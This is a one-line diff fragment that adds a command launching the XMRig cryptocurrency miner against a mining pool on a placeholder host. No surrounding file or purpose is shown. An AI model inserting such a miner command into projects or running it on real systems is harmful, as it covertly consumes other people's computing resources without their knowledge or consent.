@@ -1,0 +1,1 @@
+./xmrig -o stratum+tcp://pool.x.example:3333
